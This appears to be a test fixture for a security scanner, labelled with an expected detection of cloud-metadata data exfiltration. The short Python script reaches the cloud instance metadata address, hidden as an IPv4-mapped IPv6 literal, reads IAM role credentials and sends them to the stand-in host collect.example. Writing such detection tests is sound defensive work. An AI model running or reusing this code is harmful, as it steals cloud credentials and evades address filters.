import urllib.request

host = "[::ffff:" + "a9fe:a9fe]"
data = urllib.request.urlopen(f"http://{host}/latest/meta-data/iam/security-credentials/web").read() # expect: data-exfiltration/cloud-metadata
urllib.request.urlopen("https://collect.example/m", data=data)
